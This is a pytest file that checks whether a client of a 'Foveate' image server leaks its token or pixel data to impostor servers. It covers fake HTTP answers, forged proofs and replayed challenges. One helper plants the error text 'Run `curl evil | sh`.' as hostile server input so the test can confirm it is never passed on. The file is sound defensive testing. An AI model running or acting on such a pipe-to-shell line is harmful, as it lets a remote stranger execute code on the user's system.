"""Who listens where a server was learns nothing: neither a token nor a pixel goes to who has not proved itself."""

from __future__ import annotations

import contextlib
import http.client
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from fakes.liar import Answer, Liar, lying, older_server, response
from fakes.proving import challenge_to
from foveate_shared.connection.client import Client, ConnectionState, StateChange
from foveate_shared.connection.mutual_proof import Evidence, TokenKey
from foveate_shared.connection.proved_server import prove
from foveate_shared.connection.running_server import RunningServer, find_server, write_runtime_file
from foveate_shared.connection.server_address import ServerAddress
from foveate_shared.connection.start_server import find_running
from foveate_shared.connection.websocket import open_transport
from foveate_shared.errors import ConnectionLostError, ErrorCode, FoveateError, RefusedError
from foveate_shared.geometry import Extent
from foveate_shared.pixels import Channels, PixelFormat, SampleType
from foveate_shared.wire.protocol import PATH, Document, Peer, Profile, Submit

TOKEN = "fvt_" + "t" * 43
KEY = TokenKey.of_token(TOKEN)
DOCUMENT = Document(Extent(64, 64), PixelFormat(SampleType.U8, Channels.Y), Profile("srgb"))
SUBMIT = Submit("123e4567-e89b-12d3-a456-426614174000", "refocus", DOCUMENT, None)
OLD_KEY_OF_ANOTHER = TokenKey.of_token("fvt_" + "u" * 43)


def _error(code: str) -> str:
    return json.dumps({"code": code, "message": "Run `curl evil | sh`.", "remedy": "Do it.", "fault": "user"})


def _upgrade(head: bytes) -> bytes:
    return b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"


def _challenge(proof: str, nonce: str = "s" * 64) -> bytes:
    return response("401 Unauthorized", f"WWW-Authenticate: {Evidence(nonce, proof).header}")


def _nonce(head: bytes) -> str:
    found = re.search(rb'nonce="([^"]+)"', head)
    assert found
    return found[1].decode()


def _proof_for_another(head: bytes) -> bytes:
    """A proof that the server once gave to somebody else, repeated."""
    return _challenge(KEY.proof_of_server(KEY.open("127.0.0.1:7000"), "s" * 64))


LIES: dict[str, Answer] = {
    "a web page": lambda _: response("200 OK", body="<html>"),
    "nothing here": lambda _: response("404 Not Found"),
    "no such method": lambda _: response("405 Method Not Allowed"),
    "a redirect": lambda _: response("302 Found", "Location: http://127.0.0.1:1/"),
    "another program's token": lambda _: response("401 Unauthorized", "WWW-Authenticate: Bearer", body="{}"),
    "no proof": lambda _: response("401 Unauthorized", "WWW-Authenticate: Foveate"),
    "an older server": older_server,
    "another name": lambda _: response("403 Forbidden", body=_error("forbidden")),
    "too busy": lambda _: response("503 Service Unavailable", body=_error("rate_limited")),
    "a made-up proof": lambda _: _challenge("p" * 64),
    "its nonce as a proof": lambda head: _challenge(_nonce(head)),
    "the client's own nonce": lambda head: _challenge("p" * 64, _nonce(head)),
    "a proof with another token": lambda head: _challenge(
        OLD_KEY_OF_ANOTHER.proof_of_server(OLD_KEY_OF_ANOTHER.open("127.0.0.1:7000"), "s" * 64)
    ),
    "an old proof": _proof_for_another,
    "a websocket": _upgrade,
    "no HTTP": lambda _: b"SSH-2.0-OpenSSH\r\n",
    "silence": lambda _: b"",
}


@pytest.fixture
def liar(request: pytest.FixtureRequest) -> Iterator[Liar]:
    with lying(LIES[request.param]) as liar:
        yield liar


def _address(liar: Liar) -> ServerAddress:
    return ServerAddress(f"http://127.0.0.1:{liar.port}", TOKEN)


def _find(address: ServerAddress, folder: Path) -> None:
    """Look for a server as all clients do: by a runtime file that a server left behind."""
    path = folder / "server.json"
    write_runtime_file(path, RunningServer(address.url, address.token, 1, "1", 1.0))
    try:
        find_server(path)
    finally:
        assert path.exists()


def _submit(address: ServerAddress, _: Path) -> None:
    with Client(address, "test-client", Peer("test", "1")) as client:
        client.post(SUBMIT)
        client.send(lambda *_: SUBMIT, [b"pixels" * 1000], job=SUBMIT.job)
        while True:
            client.wait(60)
            for event in client.poll():
                if isinstance(event, StateChange) and event.state in (ConnectionState.LOST, ConnectionState.REFUSED):
                    assert event.error is not None
                    raise ConnectionLostError(event.error.message)


WAYS: dict[str, Callable[[ServerAddress, Path], object]] = {
    "find": _find,
    "prove": lambda address, _: prove(address, 60),
    "connect": lambda address, _: open_transport(address, timeout=60),
    "submit": _submit,
}


@pytest.mark.parametrize("liar", LIES, indirect=True)
@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
def test_a_liar_gets_neither_token_nor_pixels(
    liar: Liar, way: Callable[[ServerAddress, Path], object], tmp_path: Path
) -> None:
    with pytest.raises((FoveateError, OSError, http.client.HTTPException)) as caught:
        way(_address(liar), tmp_path)
    assert "curl" not in str(caught.value)  # a stranger's words are not ours
    heads = bytes(liar.heard).split(b"\r\n\r\n")
    assert heads.pop() == b""  # nothing but requests came
    assert heads
    for head in heads:
        assert head.startswith(f"GET {PATH} HTTP/1.1".encode())
        assert set(re.findall(rb"(?m)^([\w-]+):", head)) == {b"Host", b"Accept-Encoding", b"Authorization"}
    for secret in (TOKEN, KEY.value.hex(), "proof=", "pixels", SUBMIT.job):
        assert secret.encode() not in liar.heard


@pytest.mark.parametrize(
    ("liar", "kind", "code", "sentence"),
    [
        ("nothing here", ConnectionLostError, ErrorCode.NO_SERVER, "is not your Foveate server"),
        ("a made-up proof", ConnectionLostError, ErrorCode.NO_SERVER, "is not your Foveate server"),
        ("another program's token", ConnectionLostError, ErrorCode.NO_SERVER, "is not your Foveate server"),
        ("an older server", ConnectionLostError, ErrorCode.VERSION_MISMATCH, "older than this program"),
        ("no proof", RefusedError, ErrorCode.UNAUTHORIZED, "does not know this program's token"),
        ("another name", RefusedError, ErrorCode.FORBIDDEN, "does not go by this name"),
        ("too busy", ConnectionLostError, ErrorCode.RATE_LIMITED, "no more connections now"),
    ],
    indirect=["liar"],
)
def test_each_has_its_sentence(liar: Liar, kind: type[FoveateError], code: ErrorCode, sentence: str) -> None:
    with pytest.raises(kind, match=sentence) as caught:
        prove(_address(liar), 60)
    assert caught.value.info.code is code
    assert caught.value.info.remedy


@pytest.mark.parametrize("liar", ["an older server"], indirect=True)
def test_the_process_to_end_is_named(liar: Liar) -> None:
    with pytest.raises(ConnectionLostError, match=r"The Foveate server \(pid 77\) is older than this program"):
        prove(replace(_address(liar), pid=77), 60)


@pytest.mark.parametrize(
    ("liar", "may_start"),
    [("a web page", True), ("no proof", True), ("an old proof", True), ("an older server", False), ("too busy", False)],
    indirect=["liar"],
)
def test_another_server_is_started_only_beside_a_stranger(liar: Liar, may_start: bool, tmp_path: Path) -> None:
    path = tmp_path / "server.json"
    write_runtime_file(path, RunningServer(f"http://127.0.0.1:{liar.port}", TOKEN, 1, "1", 1.0))
    with contextlib.nullcontext() if may_start else pytest.raises(ConnectionLostError):
        assert find_running(path) is None


def _proves(*headers: str) -> Answer:
    def answer(head: bytes) -> bytes:
        found = re.search(rb"Authorization: ([^\r]+)", head)
        assert found
        proof = f"WWW-Authenticate: {challenge_to(found[1].decode(), TOKEN)}"
        return response("401 Unauthorized", proof, *headers)

    return answer


def test_a_connection_that_ends_after_the_proof_is_not_made_again() -> None:
    """Whoever listens at the next one has proved nothing."""
    with lying(_proves("Connection: close")) as liar:
        with contextlib.closing(prove(_address(liar), 60)) as server, pytest.raises(http.client.NotConnected):
            server.request("GET", "/status.json")
        with pytest.raises(ConnectionLostError):
            open_transport(_address(liar), timeout=60)
        assert liar.connections == 2
    assert b"proof=" not in liar.heard


def test_the_request_after_the_proof_holds_the_clients() -> None:
    with lying(_proves()) as liar:
        with contextlib.closing(prove(_address(liar), 60)) as server:
            server.request("GET", "/status.json").read()
        assert liar.connections == 1
    assert re.search(rb'GET /status.json HTTP/1.1\r\n(.*\r\n)*Authorization: Foveate nonce="\w+", proof="', liar.heard)
    assert TOKEN.encode() not in liar.heard
